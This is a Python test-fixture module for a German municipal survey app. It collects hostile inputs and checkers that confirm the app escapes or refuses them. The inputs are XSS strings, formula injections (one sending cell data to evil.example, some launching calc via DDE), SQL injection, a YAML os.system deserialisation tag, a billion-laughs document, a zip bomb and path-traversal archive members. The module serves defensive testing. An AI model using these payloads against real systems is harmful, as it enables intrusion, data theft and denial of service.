"""Hostile values and the checks for them, shared by the unit, store and web tests of hostile
input (tests/*/test_hostile_input.py, tests/*/test_hostile_imports.py).

Every payload goes through the domain functions that receive it (unit and store tests); the web
tests post a representative few (REPRESENTATIVE) through every form, so each form is still proven
end to end: escaped wherever shown, refused with a 4xx and a message, never a 500.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
from babel.messages.pofile import read_po, write_po
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy.orm import Session

from survey.files import FORMULA_PREFIXES
from survey.store import municipality
from survey.store.models import District

LONG = "A" * 100_000


PAYLOADS: dict[str, str] = {
    "script": "<script>alert('x')</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single_quote_attribute": "' autofocus onfocus='alert(1)",
    "js_url": "javascript:alert(document.cookie)",
    "js_link": '<a href="javascript:alert(1)">hier klicken</a>',
    "svg": "<svg/onload=alert(1)>",
    "template": "{{ config }}{% raw %}{{7*7}}{% endraw %}",
    "formula_eq": '=HYPERLINK("http://evil.example/?"&A1,"Hilfe")',
    "formula_plus": "+49 221 1234",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "formula_newline": "\n=1+1",
    "long": LONG,
    "control": "bell\x07 escape\x1b[31m del\x7f vt\x0b ff\x0c",
    "nul": "before\x00after",
    "rtl_override": "invoice\u202egnp.exe \u202bمرحبا\u202c",
    "bidi_isolates": "\u2066x\u2069\u2067y\u2069\u200f\u200e",
    "huge_float": "1e309",
    "huge_int": "99999999999999999999",
    "negative_huge": "-99999999999999999999",
    "nan": "NaN",
    "sql": "' OR '1'='1'; DROP TABLE response; --",
    "emoji_and_combining": "👩🏽‍⚕️ e\u0301\u0301\u0301 \ufeff",
    "surrogate_escape": "\\ud800 %ff %00",
}


HTML_PAYLOADS = ("script", "attribute", "js_link", "svg")


# Posted through every form by the web tests: markup as text and in an attribute, a formula, a
# text over every limit, NUL (refused by the input guard with a 400) and control characters.
REPRESENTATIVE = ("script", "attribute", "formula_eq", "long", "nul", "control")
# What can reach the database at all: the input guard refuses U+0000 in any form field or query
# argument (survey/web/input_guard.py), and PostgreSQL could not store it.
STORABLE = tuple(name for name in PAYLOADS if "\x00" not in PAYLOADS[name])


def server_ok(response: Any, context: str = "") -> None:
    """A clean answer: no server error, no stack trace."""
    status = response.status_code if hasattr(response, "status_code") else response.status
    body = response.get_data().decode("utf-8", "replace") if hasattr(response, "get_data") else response.html
    assert status < 500, f"{context}: {status}\n{body[:1500]}"
    assert "Traceback" not in body and "sqlalchemy" not in body.lower(), context


class _Markup(HTMLParser):
    """Collects what would run in a browser: inline scripts, event-handler attributes,
    script URLs, and elements no page of ours contains (img, svg outside pictograms, iframe)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag == "script":
            self._in_script = "src" not in names
        if tag in ("img", "iframe", "object", "embed") or (tag == "svg" and "class" not in names):
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r}")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"script URL in {name}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script {data.strip()[:40]!r}")


def assert_escaped(html: str, payload: str = "") -> None:
    """Nothing in the page would run: markup in ``payload`` arrived as text."""
    parser = _Markup()
    parser.feed(html)
    assert not parser.problems, parser.problems


def assert_cells_neutralised(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), f"formula cell not neutralised: {cell[:50]!r}"


# Valid answers for each page of the needs questionnaire; free-text fields get the payload.
PAGES: list[tuple[str, dict[str, Any], tuple[str, ...]]] = [
    ("about", {"district": "mitte", "age_band": "28_44", "housing_type": "own_flat",
               "household_children": "yes", "arrival_year": "2020"}, ("arrival_year",)),
    ("needs", {"help_areas": ["housing"], "urgency": "later", "knows_where": "no",
               "barriers": ["language", "other"], "barriers_other": "x"}, ("barriers_other",)),
    ("language", {"german_level": "2", "german_course": "waiting", "course_obstacles": ["other"],
                  "course_obstacles_other": "x"}, ("course_obstacles_other",)),
    ("education", {"children_ages": ["6_9"], "school_help": ["homework"]}, ()),
    ("work", {"work_status": "other", "work_status_other": "x", "work_help": ["none"]}, ("work_status_other",)),
    ("housing", {"housing_help": ["other"], "housing_help_other": "x"}, ("housing_help_other",)),
    ("health", {}, ()),
    ("legal", {"legal_help": ["letters"]}, ()),
    ("participation", {}, ()),
    ("preferences", {"advice_language": ["other"], "advice_language_other": "x", "advice_channel": ["phone"],
                     "household_size": "3", "comments": "x"}, ("advice_language_other", "household_size", "comments")),
]


EDITOR_SLUG = "hostile-editor"


EDITOR_YAML = """\
slug: hostile-editor
default_language: de
languages: [de, en]
title: {de: Feindlich, en: Hostile}
districts:
  - {code: nord, label: {de: Nord, en: North}}
  - {code: sued, label: {de: Süd, en: South}}
sections:
  - code: about
    title: {de: Über Sie, en: About you}
    questions:
      - {code: district, type: district, required: true, label: {de: Stadtteil, en: District}}
      - {code: household_children, type: yes_no, label: {de: Kinder, en: Children}}
      - code: urgency
        type: single_choice
        condition: "household_children == 'yes'"
        label: {de: Dringend, en: Urgent}
        options:
          - {code: now, label: {de: Jetzt, en: Now}}
          - {code: later, label: {de: Später, en: Later}}
      - {code: household_size, type: number, min: 1, max: 20, label: {de: Größe, en: Size}}
      - {code: comments, type: long_text, label: {de: Anmerkungen, en: Comments}}
"""


YAML_TEMPLATE = """\
slug: hostile-{n}
default_language: de
languages: [de, en]
title: {{de: {text}, en: {text}}}
intro: {{de: {text}}}
sections:
  - code: s
    title: {{de: {text}}}
    questions:
      - code: q
        type: single_choice
        label: {{de: {text}, en: {text}}}
        hint: {{de: {text}}}
        options:
          - {{code: a, label: {{de: {text}}}}}
          - {{code: b, label: {{de: Zwei}}}}
      - {{code: t, type: text, label: {{de: {text}}}}}
"""


def yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar, escaping what YAML does not allow raw."""
    out = []
    for char in text:
        if char in '"\\':
            out.append("\\" + char)
        elif ord(char) < 0x20 or ord(char) == 0x7F or 0xD800 <= ord(char) <= 0xDFFF or char == "\ufeff":
            out.append(f"\\x{ord(char):02x}" if ord(char) < 0x100 else f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def hostile_yaml_documents() -> list[tuple[str, bytes]]:
    return [
        ("python-object.yaml", b"!!python/object/apply:os.system ['echo pwned']\n"),
        ("python-name.yaml", b"slug: !!python/name:os.system\n"),
        ("billion-laughs.yaml", b"a: &a ['x','x','x','x','x','x','x','x','x']\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                                b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                                b"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
                                b"g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"),
        ("invalid-utf8.yaml", b"slug: x\ntitle: {de: \"\xff\xfe\xc3\x28\"}\n"),
        ("raw-nul.yaml", b"slug: x\x00y\n"),
        ("deep.yaml", b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n"),
        ("huge-number.yaml", b"slug: nn\ndefault_language: de\nlanguages: [de]\ntitle: {de: T}\nsections:\n"
                             b"  - code: s\n    title: {de: S}\n    questions:\n"
                             b"      - {code: n, type: number, min: 1e309, max: 99999999999999999999999, label: {de: N}}\n"),
        ("tabs.yaml", b"slug:\tx\n\t- broken\n"),
        ("empty.yaml", b""),
        ("bom.yaml", b"\xef\xbb\xbfslug: x\n"),
        ("../../etc/passwd.yaml", b"slug: x\n"),
        ("not-a-mapping.yaml", b"- 1\n- 2\n"),
        ("merge-keys.yaml", b"base: &b {code: q}\nslug: x\nsections: [{<<: *b}]\n"),
    ]


def xlsform_bytes(cells: dict[str, str]) -> bytes:
    """A small XLSForm whose texts are replaced by ``cells`` (header -> value)."""
    from openpyxl import Workbook

    book = Workbook()
    survey = book.active
    survey.title = "survey"
    header = ["type", "name", "label::Deutsch (de)", "hint::Deutsch (de)", "relevant", "constraint"]
    survey.append(header)
    survey.append(["begin_group", "s", cells.get("group", "Seite"), "", "", ""])
    survey.append(["select_one yn", cells.get("name", "q"), cells.get("label", "Frage"), cells.get("hint", ""),
                   cells.get("relevant", ""), ""])
    survey.append(["integer", "n", cells.get("label", "Zahl"), "", "", cells.get("constraint", "")])
    survey.append(["text", "t", cells.get("label", "Text"), "", "", ""])
    survey.append(["end_group", "", "", "", "", ""])
    choices = book.create_sheet("choices")
    choices.append(["list_name", "name", "label::Deutsch (de)"])
    choices.append(["yn", cells.get("choice", "yes"), cells.get("label", "Ja")])
    choices.append(["yn", "no", "Nein"])
    settings = book.create_sheet("settings")
    settings.append(["form_title", "form_id", "default_language"])
    settings.append([cells.get("title", "Titel"), cells.get("form_id", "xls-hostile"), "Deutsch (de)"])
    for sheet in (survey, choices, settings):
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


TRAVERSAL_TARGET = "/tmp/hostile-imports-traversal.txt"


TRAVERSAL_CONTENT = b"TRAVERSAL-MARKER-CONTENT"


def assert_not_unpacked(page: str) -> None:
    """A traversal member was neither extracted outside the archive nor shown."""
    assert TRAVERSAL_CONTENT.decode() not in page
    assert not Path(TRAVERSAL_TARGET).exists()


def zip_variants(good: bytes) -> dict[str, bytes]:
    """A good .xlsx made truncated, a zip bomb, with a traversal member, and things that are no zip."""
    members = {name: zipfile.ZipFile(io.BytesIO(good)).read(name) for name in zipfile.ZipFile(io.BytesIO(good)).namelist()}
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.writestr("xl/media/bomb.bin", b"\0" * (60 * 1024 * 1024))
    traversal = io.BytesIO()
    with zipfile.ZipFile(traversal, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.writestr(f"../../../..{TRAVERSAL_TARGET}", TRAVERSAL_CONTENT)
    return {
        "truncated": good[: len(good) // 2],
        "zeros": b"PK\x03\x04" + b"\0" * 1000,
        "bomb": bomb.getvalue(),
        "traversal": traversal.getvalue(),
        "not-a-zip": b"<script>alert(1)</script> this is not a zip",
        "old-xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100,
    }


# --- offer tables ---


def assert_offer_texts_kept_as_expected(name: str, stored_in: tuple[str, ...] | None) -> None:
    """``stored_in``: the text columns an offer row was imported with the payload in (None: refused
    in every one). Markup, formulas and code are text like any other; a text over the cell limit
    or with control characters is refused."""
    if name in HTML_PAYLOADS or name.startswith("formula") or name in ("sql", "template", "js_url"):
        assert stored_in == TEXT_CELLS, f"{name} should be stored as text"
    if name in ("long", "control", "nul"):
        assert stored_in is None  # over the cell limit / control characters: refused, named


def add_city(session: Session) -> None:
    """Two districts and the default integration fields, which the offer rows name."""
    session.add_all([District(code="mitte", name="Mitte", position=0), District(code="nord", name="Nord", position=1)])
    municipality.ensure_default_fields(session)
    session.flush()


def xlsx_safe(text: str) -> str:
    """What an .xlsx cell can hold at all (openpyxl refuses control characters)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def set_text(cell: Any, value: str) -> None:
    """A text cell, even when it starts with '=' (never a formula)."""
    cell.value = value
    if isinstance(value, str) and value:
        cell.data_type = "s"


# Free-text columns: the payload may be stored. Coded/validated columns: no payload is a valid
# value, so the row must be refused with that column named.
TEXT_CELLS = ("provider_name", "title_de", "title_ar", "description_de", "description_ar", "opening_hours",
              "contact_address")


OPTIONAL_TEXT_CELLS = ("title_ar", "description_de", "description_ar", "opening_hours", "contact_address")


CODED_CELLS = ("id", "provider_kind", "fields", "city_wide", "districts", "target_groups", "languages", "cost",
               "barrier_free", "appointment_only", "childcare", "online", "phone_advice", "contact_phone",
               "contact_email", "website", "last_verified_on", "status")


# Columns for which no payload can be valid: each must be named in the refusal.
ALWAYS_INVALID = ("provider_kind", "cost", "status", "website", "contact_email", "city_wide", "fields")


VALID_ROW = {
    "provider_name": "Träger e.V.", "provider_kind": "welfare", "title_de": "Beratung", "title_ar": "استشارة",
    "description_de": "Hilfe", "description_ar": "مساعدة", "fields": "housing;legal", "city_wide": "no",
    "districts": "mitte", "target_groups": "women", "languages": "de;ar", "cost": "free", "barrier_free": "yes",
    "opening_hours": "Mo 9-12", "appointment_only": "no", "childcare": "no", "online": "no", "phone_advice": "yes",
    "contact_phone": "0221 12345", "contact_email": "info@example.org", "contact_address": "Weg 1",
    "website": "https://www.example.org", "last_verified_on": "2024-01-31", "status": "published",
}


HEADER = ["id", *VALID_ROW]


def offer_csv(row: dict[str, str]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerow([row.get(column, "") for column in HEADER])
    return out.getvalue().encode("utf-8")


def offer_xlsx(row: dict[str, str]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for column, name in enumerate(HEADER, start=1):
        set_text(sheet.cell(1, column), name)
        set_text(sheet.cell(2, column), row.get(name, ""))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- translation files ---


def fill_sheet(raw: bytes, changes: dict[str, str]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    sheet = book["Translations"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in changes:
            set_text(row[2], changes[row[0].value])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def fill_po(raw: bytes, changes: dict[str, str]) -> bytes:
    catalogue = read_po(io.BytesIO(raw))
    for message in catalogue:
        if message.context in changes:
            message.string = changes[message.context]
    out = io.BytesIO()
    write_po(out, catalogue, width=0)
    return out.getvalue()
